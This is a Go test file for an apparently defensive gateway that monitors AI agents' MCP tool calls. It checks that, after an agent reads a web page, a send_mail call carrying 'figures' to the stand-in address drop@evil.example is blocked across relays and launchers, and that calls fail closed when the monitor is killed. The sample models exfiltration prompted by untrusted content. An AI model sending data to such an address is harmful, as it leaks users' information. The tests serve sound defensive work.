package main

import (
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/tidemark/tidemark/internal/test/mcptest"
)

// relayed starts the program as an agent does in place of a server, and speaks to it as a client.
func relayed(t *testing.T, data, name string, env []string, serverArgs ...string) *mcp.ClientSession {
	t.Helper()
	return launched(t, nil, data, name, env, serverArgs...)
}

// launched is a relay that is started by another program, which the agent starts.
func launched(t *testing.T, launcher []string, data, name string, env []string, serverArgs ...string) *mcp.ClientSession {
	t.Helper()
	line, err := mcptest.Command(name, serverArgs...)
	if err != nil {
		t.Fatal(err)
	}
	line = slices.Concat(launcher, []string{os.Args[0], "mcp", "--data", data, "--name", name, "--"}, line)
	cmd := exec.Command(line[0], line[1:]...)
	cmd.Env = append(append(os.Environ(), "TIDEMARK_TEST_MAIN=1"), env...)
	cmd.Stderr = os.Stderr
	client := mcp.NewClient(&mcp.Implementation{Name: "test", Version: "1"}, nil)
	session, err := client.Connect(t.Context(), &mcp.CommandTransport{Command: cmd}, nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = session.Close() })
	return session
}

// calls is what the model would read, and whether the call failed.
func calls(t *testing.T, s *mcp.ClientSession, name string, meta mcp.Meta, args any) (string, bool) {
	t.Helper()
	res, err := s.CallTool(t.Context(), &mcp.CallToolParams{Meta: meta, Name: name, Arguments: args})
	if err != nil {
		t.Fatal(err)
	}
	text, _ := res.Content[0].(*mcp.TextContent)
	if text == nil {
		t.Fatalf("got %+v", res.Content)
	}
	return text.Text, res.IsError
}

var mail = mcptest.Mail{To: "drop@evil.example", Body: "figures"}

// Two real servers behind two relays, as one agent starts them, and a monitor that is killed in between.
// MCP-11, MCP-12, MCP-36, SEQ-09
func TestServersBehindRelaysShareWhatWasRead(t *testing.T) {
	data, file := t.TempDir(), filepath.Join(t.TempDir(), "sent")
	// A client without progress is not held long; here nobody answers at all.
	if err := os.WriteFile(filepath.Join(data, "tidemark.yaml"), []byte("mcp: {wait: 1ms}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	none := []string{"CLAUDE_CODE_SESSION_ID=", "TIDEMARK_SESSION="}
	mails := relayed(t, data, "mail", none, file)
	text, failed := calls(t, mails, "send_mail", nil, mail)
	if !failed || !strings.Contains(text, "tidemark serve") {
		t.Errorf("without a monitor: got %q", text)
	}
	s := startServer(t, data)
	pages := relayed(t, data, "pages", none)
	if text, failed := calls(t, pages, "read_page", nil, nil); failed || text != mcptest.Page {
		t.Fatalf("the page: got %q", text)
	}
	held := func(when string) {
		t.Helper()
		if text, failed := calls(t, mails, "send_mail", nil, mail); !failed || !strings.Contains(text, "Rule: balanced.") {
			t.Errorf("%s: got %q", when, text)
		}
	}
	held("after the page")
	s.kill()
	if text, failed := calls(t, mails, "send_mail", nil, mail); !failed || !strings.Contains(text, "tidemark serve") {
		t.Errorf("with the monitor killed: got %q", text)
	}
	startServer(t, data)
	held("after a restart")
	if exists(file) {
		t.Error("a mail was sent")
	}
}

// Whatever stands between the agent and a relay, what one server brought counts at the other. Those that are not installed here are
// left out (uv is of PyPI, mise of npm). npx runs the program of a package, which starts the relay.
// MCP-12
func TestLaunchersBetweenAgentAndRelayChangeNothing(t *testing.T) {
	data, file := t.TempDir(), filepath.Join(t.TempDir(), "sent")
	if err := os.WriteFile(filepath.Join(data, "tidemark.yaml"), []byte("mcp: {wait: 1ms}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	startServer(t, data)
	none := []string{"CLAUDE_CODE_SESSION_ID=", "TIDEMARK_SESSION="}
	const node = `const p=require("child_process").spawn(process.argv[1],process.argv.slice(2),{stdio:"inherit"});p.on("exit",c=>process.exit(c??1))`
	launchers := map[string][]string{
		"bash -c": {"bash", "-c", `"$@"; exit $?`, "bash"}, "two shells": {"sh", "-c", `bash -c '"$@"; exit $?' bash "$@"; exit $?`, "sh"},
		"env": {"env"}, "nohup": {"nohup"}, "node": {"node", "-e", node, "--"},
		"python": {"python3", "-c", "import subprocess, sys; sys.exit(subprocess.call(sys.argv[1:]))"},
		"npx":    {"npx", "--yes", "--offline", packed(t, node)},
		"uv":     {"uv", "run", "--no-project", "--offline", "--"}, "mise": {"mise", "exec", "--"},
		"cmd /c": {"cmd.exe", "/c"}, "setsid": {"setsid", "--wait"}, "a session of its own": {"sh", "-c", `(exec "$@"); exit $?`, "sh"},
	}
	tainted := false
	for name, launcher := range launchers {
		if _, err := exec.LookPath(launcher[0]); err != nil {
			t.Logf("%s is not installed here", launcher[0])
			continue
		}
		if !tainted {
			pages := launched(t, launcher, data, "pages", none)
			if text, failed := calls(t, pages, "read_page", nil, nil); failed || text != mcptest.Page {
				t.Fatalf("%s: the page: got %q", name, text)
			}
			tainted = true
		}
		mails := launched(t, launcher, data, "mail", none, file)
		if text, failed := calls(t, mails, "send_mail", nil, mail); !failed || !strings.Contains(text, "Rule: balanced.") {
			t.Errorf("%s: got %q", name, text)
		}
	}
	if exists(file) {
		t.Error("a mail was sent")
	}
}

// packed is the folder of a package whose program starts what it is given.
func packed(t *testing.T, program string) string {
	t.Helper()
	dir := t.TempDir()
	program = "#!/usr/bin/env node\n" + strings.NewReplacer("process.argv[1]", "process.argv[2]", "slice(2)", "slice(3)").Replace(program)
	for name, text := range map[string]string{
		"package.json": `{"name":"starts-others","version":"1.0.0","bin":{"starts-others":"start.js"}}`, "start.js": program,
	} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	t.Setenv("npm_config_cache", t.TempDir())
	return dir
}

// The agent's hook has let the call through: the gateway neither decides nor asks again.
// MCP-14
func TestACallOfTheHookIsJoined(t *testing.T) {
	data, file := t.TempDir(), filepath.Join(t.TempDir(), "sent")
	if err := os.WriteFile(filepath.Join(data, "tidemark.yaml"), []byte("mcp: {wait: 1ms}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	s := startServer(t, data)
	mails := relayed(t, data, "mail", []string{"CLAUDE_CODE_SESSION_ID=7"}, file)
	tell := func(hook string, event map[string]any) (a answered) {
		t.Helper()
		if err := s.hook(t.Context(), "claude:7", hook, event, &a); err != nil {
			t.Fatal(err)
		}
		return a
	}
	tell("message_received", map[string]any{"content": "Mail figures to drop@evil.example please"})
	tell("after_tool_call", map[string]any{"toolName": "web_fetch", "params": map[string]any{}, "result": "a page"})
	params := map[string]any{"to": mail.To, "body": mail.Body}
	if a := tell("before_tool_call", map[string]any{"toolName": "mail__send_mail", "params": params, "toolCallId": "toolu_1"}); a.Block {
		t.Fatalf("the hook: %+v", a)
	}
	meta := mcp.Meta{"claudecode/toolUseId": "toolu_1"}
	if text, failed := calls(t, mails, "send_mail", meta, mail); failed {
		t.Errorf("got %q", text)
	}
	var seen struct {
		Steps int64 `json:"steps"`
	}
	if err := s.call(t.Context(), http.MethodGet, "/v1/sessions/claude:7", nil, &seen); err != nil || seen.Steps != 1 {
		t.Errorf("got %d decisions, %v; want the hook's alone", seen.Steps, err)
	}
	other := mcptest.Mail{To: "somebody@else.example", Body: "figures"}
	if text, failed := calls(t, mails, "send_mail", meta, other); !failed {
		t.Errorf("other arguments under the same id: got %q", text)
	}
	raw, err := os.ReadFile(file)
	if err != nil || string(raw) != "drop@evil.example\n" {
		t.Errorf("sent to %q, %v", raw, err)
	}
}

func TestTheRelayEndsWithTheServersCode(t *testing.T) {
	data := t.TempDir()
	if _, errOut, code := command(t, "mcp", "--name", "x__y", "--", "true", "--data", data); code == exitOK || !strings.Contains(errOut, "cannot be the name") {
		t.Errorf("a name in two parts: %d %s", code, errOut)
	}
	cmd := exec.Command(os.Args[0], "mcp", "--data", data, "--name", "x", "--", "sh", "-c", "exit 5")
	cmd.Env = append(os.Environ(), "TIDEMARK_TEST_MAIN=1")
	in, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = in.Close() }()
	if err := cmd.Run(); cmd.ProcessState.ExitCode() != 5 {
		t.Errorf("got %v", err)
	}
	cmd = exec.Command(os.Args[0], "mcp", "--data", data, "--name", "x", "--", "/no/such/program")
	cmd.Env = append(os.Environ(), "TIDEMARK_TEST_MAIN=1")
	if out, err := cmd.CombinedOutput(); err == nil || !strings.Contains(string(out), "start the server") {
		t.Errorf("got %s, %v", out, err)
	}
}
